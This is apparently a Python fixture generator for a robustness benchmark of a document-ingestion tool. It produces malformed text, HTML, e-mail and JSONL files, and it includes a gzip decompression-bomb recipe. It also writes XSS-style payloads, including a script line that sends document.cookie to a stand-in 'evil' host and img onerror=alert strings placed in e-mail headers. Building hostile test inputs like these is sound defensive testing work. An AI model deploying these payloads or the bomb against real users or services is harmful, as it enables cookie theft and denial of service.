"""The inputs of bench/hostile.py: malformed and hostile files made from the corpora in ../shared,
each recorded with its kind and the path (and JSONL line) under which Sluice should report it.

Every maker takes a `Sizes` (counts scale with `scale`, byte sizes are explicit) and writes into
one folder; contents differ per input (different corpus documents, an index in the bytes) so that
no two inputs share a content id by accident.
"""

from __future__ import annotations

import gzip
import itertools
import json
import os
import random
import sys
import zlib
from dataclasses import dataclass, field
from pathlib import Path

SHARED = Path(__file__).resolve().parents[2] / "shared" / "corpora"
MB = 1 << 20
GOOD_FROM = 3000  # Reuters bodies from here on are the good documents, used by nothing else


@dataclass(frozen=True)
class Input:
    """One input. `labels`: the paths whose ledger rows account for it, the first its own;
    `skip` names a documented rule that skips it without a row. An input accounts for every
    row of its own; two inputs with one ledger source cannot both."""

    kind: str
    labels: tuple[bytes, ...]  # paths, as os.fsencode gives them
    line: int | None = None  # the line of a JSONL file
    good: str | None = None  # the Reuters id of a good document
    skip: str | None = None
    lines: bool = False  # a file whose lines are not known: rows of any of its lines count
    within: bool = False  # a file the job may not reach: a row for a folder above it counts


@dataclass(frozen=True)
class Sizes:
    scale: float = 1.0
    huge_mb: int = 50  # one text file this large
    line_mb: int = 10  # one single line this long
    bomb_mb: int = 1024  # what a decompression bomb inflates to
    comment_kb: int = 800  # "<!--" repeated
    amp_kb: int = 100  # "&" repeated
    encoded_words: int = 100_000  # RFC 2047 words in one Subject
    mime_depth: int = 2_000
    html_depth: int = 100_000
    flood_tags: int = 400_000  # unclosed <p>, <li>, <td> (one row): ~80 us each in trafilatura
    jsonl_line_mb: int = 5

    def n(self, full: int) -> int:
        return max(1, round(full * self.scale))


@dataclass
class Corpora:
    """Lazily read texts of ../shared: Reuters bodies (with ids), e-mails, speeches, licenses."""

    reuters: list[tuple[str, str]] = field(default_factory=list)
    mails: list[bytes] = field(default_factory=list)
    sotu: list[str] = field(default_factory=list)
    licenses: list[str] = field(default_factory=list)
    pdfs: dict[str, bytes] = field(default_factory=dict)

    @classmethod
    def load(cls) -> Corpora:
        c = cls()
        with gzip.open(SHARED / "reuters-21578.jsonl.gz", "rt", encoding="utf-8") as fh:
            for line in fh:
                rec = json.loads(line)
                if len(rec.get("body") or "") > 400:
                    c.reuters.append((str(rec["id"]), rec["body"]))
                if len(c.reuters) == GOOD_FROM + 100:
                    break
        with gzip.open(SHARED / "spamassassin.jsonl.gz", "rt", encoding="utf-8") as fh:
            for line in itertools.islice(fh, 600):
                c.mails.append(json.loads(line)["raw_message"].encode("utf-8", "surrogateescape"))
        c.sotu = [p.read_text(encoding="utf-8", errors="replace")
                  for p in sorted((SHARED / "sotu").glob("*.txt"))]
        with gzip.open(SHARED / "spdx-licenses.jsonl.gz", "rt", encoding="utf-8") as fh:
            c.licenses = [json.loads(line).get("text") or "" for line in itertools.islice(fh, 300)]
        c.pdfs = {p.name: p.read_bytes() for p in sorted((SHARED / "pdf").glob("*.pdf"))}
        return c

    def body(self, i: int) -> str:
        return self.reuters[(i * 7919) % GOOD_FROM][1]

    def text_pdfs(self) -> list[bytes]:
        skip = ("encrypt", "password", "image", "jpeg", "CCITT", "OCR")
        return [data for name, data in self.pdfs.items()
                if not any(s.lower() in name.lower() for s in skip)]

    def encrypted_pdfs(self) -> list[bytes]:
        return [d for n, d in self.pdfs.items() if "encrypt" in n or "password" in n]

    def scanned_pdfs(self) -> list[bytes]:
        return [d for n, d in self.pdfs.items() if "image" in n or "jpeg" in n or "CCITT" in n]


class Folder:
    """Writes inputs under `root` (the job's folder) and `outside` (never given to the job)."""

    def __init__(self, root: Path, outside: Path) -> None:
        self.root, self.outside, self.inputs = root, outside, []
        self._serial = itertools.count()
        self.root.mkdir(parents=True)
        self.outside.mkdir(parents=True)

    def path(self, kind: str, name: str | bytes) -> bytes:
        folder = os.fsencode(self.root / kind)
        os.makedirs(folder, exist_ok=True)
        return os.path.join(folder, os.fsencode(name))

    def file(self, kind: str, name: str | bytes, data: bytes, **extra: object) -> bytes:
        path = self.path(kind, name)
        with open(path, "wb") as fh:
            fh.write(data)
        self.inputs.append(Input(kind, (path,), **extra))  # type: ignore[arg-type]
        return path

    def jsonl(self, kind: str, name: str, lines: list[bytes], gz: bool = False) -> None:
        """One input per non-blank line (blank lines are no records, by the README's rule)."""
        path = self.path(kind, name)
        data = b"\n".join(lines) + b"\n"
        with open(path, "wb") as fh:
            fh.write(gzip.compress(data, 1) if gz else data)
        for number, line in enumerate(lines, 1):
            if line.strip():
                self.inputs.append(Input(kind, (path,), line=number))

    def serial(self) -> int:
        return next(self._serial)


# --- text and HTML -----------------------------------------------------------------------------

INVALID_UTF8 = (b"\xff\xfe", b"\xc3(", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x80\x80")


def make_texts(f: Folder, c: Corpora, s: Sizes, rng: random.Random) -> None:
    for i in range(s.n(80)):
        data = bytearray(c.body(100 + i).encode())
        for bad in rng.sample(INVALID_UTF8, 3):
            at = rng.randrange(len(data))
            data[at:at] = bad
        f.file("txt_invalid_utf8", f"bad-utf8-{i}.txt", bytes(data))
    for i in range(s.n(20)):
        f.file("txt_nul_filled", f"nul-{i}.txt", b"\0" * (1024 * (i + 1) ** 2))
    for i in range(s.n(20)):
        f.file("txt_nul_interleaved", f"nul-mix-{i}.txt", "\0".join(c.body(200 + i)).encode())
    for i in range(s.n(40)):
        enc = "utf-16-le" if i % 2 else "utf-16-be"
        f.file("txt_utf16_no_bom", f"utf16-{i}.txt", c.body(300 + i).encode(enc))
    for i in range(s.n(30)):
        junk = (rng.randbytes(rng.randint(100, 200_000)), gzip.compress(c.body(i).encode()),
                Path(sys.executable).read_bytes()[: 50_000 + i],
                b"\x89PNG\r\n\x1a\n" + rng.randbytes(999))
        f.file("txt_binary_junk", f"junk-{i}.txt", junk[i % len(junk)] + b"%d" % i)
    big = "\n\n".join(c.sotu).encode()
    f.file("txt_huge", "huge.txt", (big * (s.huge_mb * MB // len(big) + 1))[: s.huge_mb * MB])
    f.file("txt_single_long_line", "one-line.txt",
           (c.body(1).replace("\n", " ").encode() * (s.line_mb * MB // 500))[: s.line_mb * MB])
    for i, kb in enumerate((s.amp_kb, s.amp_kb // 5)):
        f.file("txt_ampersands", f"amp-{i}.txt", b"&" * (kb * 1024))
    for i in range(s.n(10)):
        text = c.licenses[i % len(c.licenses)] or c.body(i)
        name = ("lic-%d.rtf", "lic-%d.docx", "lic-%d", "lic-%d.TXT.bak", "lic-%d.csv")[i % 5] % i
        f.file("unknown_extension", name, text.encode())
    for i in range(s.n(6)):
        ext = ("txt", "html", "pdf", "eml", "md", "jsonl")[i % 6]
        f.file("empty_file", f"empty-{i}.{ext}", b"")


def make_html(f: Folder, c: Corpora, s: Sizes) -> None:
    for i, tag in enumerate(("div", "span", "b")[: s.n(3)]):
        nested = f"<{tag}>" * s.html_depth + c.body(i) + f"</{tag}>" * s.html_depth
        page = f"<html><body>{nested}</body></html>"
        f.file("html_nested_deep", f"nested-{i}.html", page.encode())
    for i in range(s.n(40)):
        js = json.dumps(c.body(400 + i))
        page = f"<html><head><script>var t={js};</script><style>p{{}}</style></head>" \
               f"<body><script>document.write(t)</script></body></html>"
        f.file("html_script_only", f"script-{i}.html", page.encode())
    for i, kb in enumerate((s.comment_kb, s.comment_kb // 10)):
        f.file("html_comment_openers", f"comments-{i}.html", b"<!--" * (kb * 256))
    for i, (start, tag) in enumerate((("<body>", "p"), ("<body><ul>", "li"),
                                      ("<body><table><tr>", "td"))):
        words = " ".join(c.body(700 + j) for j in range(60)).split()
        # a word every tenth tag: the cost is in the tags, the text stays small for NER
        flood = "".join(f"<{tag}>{words[j // 10 % len(words)] if j % 10 == 0 else ''} "
                        for j in range(s.flood_tags))
        f.file("html_tag_flood", f"flood-{tag}-{i}.html", f"<html>{start}{flood}".encode())
    for i in range(s.n(20)):
        body = c.body(500 + i).replace("&", "&amp;").replace("<", "&lt;")
        page = (f"<html><head><title>&lt;script&gt;alert({i})&lt;/script&gt; Report</title></head>"
                f"<body><h1>&lt;img src=x onerror=alert({i})&gt;</h1><p>{body}</p><p>"
                f"&lt;script&gt;fetch('//evil/'+document.cookie)&lt;/script&gt;</p></body></html>")
        f.file("html_escaped_markup", f"escaped-{i}.html", page.encode())
    for i in range(s.n(30)):
        text = c.body(600 + i) + " Café Zürich €"
        label, enc = (("utf-8", "cp1252"), ("iso-8859-1", "utf-8"), ("shift_jis", "utf-8"),
                      ("x-bogus-charset", "utf-8"), ("utf-16", "utf-8"))[i % 5]
        page = f'<html><head><meta charset="{label}"></head><body><p>{text}</p></body></html>'
        f.file("html_wrong_charset", f"charset-{i}.html", page.encode(enc, "replace"))


# --- e-mail ------------------------------------------------------------------------------------


def _mutate_mime(msg: bytes, i: int) -> bytes:
    head, _, body = msg.partition(b"\n\n")
    return (
        head + b"\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"NOPE\"\n\n" + body,
        head + b"\nContent-Type: multipart/alternative; boundary=b1\n\n--b1\nContent-Type: "
               b"text/plain\n\n" + body,  # never closed
        head + b"\nContent-Transfer-Encoding: base64\n\n!!!" + body[:5000] + b"=====",
        head.replace(b":", b"\0:", 3) + b"\n\n" + body,
        msg[: max(20, len(head) // 2)],  # cut inside the header
        head.replace(b"\n", b" ") + body,  # no blank line, one header line
        head + b"\nContent-Type: text/plain; " + b"; ".join(b"p%d=%d" % (k, k)
                                                         for k in range(3000)) + b"\n\n" + body,
        head + b"\nContent-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\n"
               + body.replace(b" ", b"=\n=ZZ"),
    )[i % 8]


def make_mail(f: Folder, c: Corpora, s: Sizes) -> None:
    for i in range(s.n(96)):
        f.file("eml_malformed_mime", f"mime-{i}.eml", _mutate_mime(c.mails[i], i))
    for i, words in enumerate((s.encoded_words, s.encoded_words // 6)):
        subject = b"\n ".join(b"=?utf-8?b?YQ==?=" for _ in range(words))
        f.file("eml_rfc2047_bomb", f"encoded-words-{i}.eml",
               b"From: a@example.com\nSubject: " + subject + b"\n\n" + c.body(i).encode())
    for i in range(s.n(3)):
        depth = s.mime_depth
        head = "".join(f"Content-Type: multipart/mixed; boundary=\"b{d}\"\n\n--b{d}\n"
                       for d in range(depth))
        tail = "".join(f"\n--b{d}--\n" for d in reversed(range(depth)))
        msg = f"From: a@example.com\nSubject: nested {i}\nMIME-Version: 1.0\n{head}" \
              f"Content-Type: text/plain\n\n{c.body(i)}{tail}"
        f.file("eml_nested_multipart", f"nested-{i}.eml", msg.encode())
    for i in range(s.n(60)):
        text = c.body(700 + i) + " naïve café Zürich"
        label, enc = (("utf-8", "cp1252"), ("us-ascii", "utf-8"), ("koi8-r", "utf-8"),
                      ("x-unknown", "latin-1"), ("utf-16", "utf-8"), ("utf-8", "utf-16-le"))[i % 6]
        msg = (f"From: a@example.com\nSubject: charset {i}\nMIME-Version: 1.0\nContent-Type: "
               f"text/plain; charset={label}\n\n").encode() + text.encode(enc, "replace")
        f.file("eml_wrong_charset", f"charset-{i}.eml", msg)
    for i in range(s.n(10)):
        msg = (f"From: <img src=x onerror=alert({i})>@example.com\nSubject: <script>alert({i})"
               f"</script> =?utf-8?q?=3Cimg_src=3Dx_onerror=3Dalert({i})=3E?=\n\n{c.body(800 + i)}")
        f.file("eml_markup_headers", f"markup-{i}.eml", msg.encode())


# --- JSONL -------------------------------------------------------------------------------------


def bad_lines(c: Corpora, s: Sizes, i: int) -> list[bytes]:
    body = c.body(900 + i)
    ok = json.dumps({"text": body, "n": i}).encode()
    return [ok, b"{not json " + b"%d" % i, b"[1, 2, %d]" % i, b"%d" % i, json.dumps(body).encode(),
            json.dumps({"title": body[:50], "n": i}).encode(),
            json.dumps({"text": None, "n": i}).encode(), json.dumps({"text": i}).encode(),
            json.dumps({"text": {"nested": body[:30]}, "n": i}).encode(),
            b'{"text": "lone surrogate \\ud800 %d"}' % i,
            b'{"text": "' + body[:200].replace("\n", " ").replace('"', "").encode(
                "cp1252", "replace") + b'\xff"}',
            b"[" * 100_000 + b"]" * 100_000 if i % 5 == 0 else b'{"text": "deep %d"}' % i]


def make_jsonl(f: Folder, c: Corpora, s: Sizes) -> None:
    for i in range(s.n(24)):
        f.jsonl("jsonl_bad_lines", f"bad-{i}.jsonl", bad_lines(c, s, i))
    huge = json.dumps({"text": ("word " * (s.jsonl_line_mb * MB // 5))}).encode()
    f.jsonl("jsonl_huge_line", "huge-line.jsonl", [huge])
    zeros = zlib.compressobj(9, zlib.DEFLATED, 31)  # gzip container
    block = b"\0" * MB
    bomb = b"".join([zeros.compress(block) for _ in range(s.bomb_mb)] + [zeros.flush()])
    truncated = b"".join(json.dumps({"text": c.body(950 + n)}).encode() + b"\n" for n in range(5))
    for name, data in (("zeros-bomb.jsonl.gz", bomb),
                       ("truncated.jsonl.gz", gzip.compress(truncated)[:-200]),
                       ("not-gzip.jsonl.gz", b"plain text, not gzip\n")):
        path = f.path("jsonl_gz_hostile", name)
        Path(os.fsdecode(path)).write_bytes(data)
        f.inputs.append(Input("jsonl_gz_hostile", (path,), lines=True))
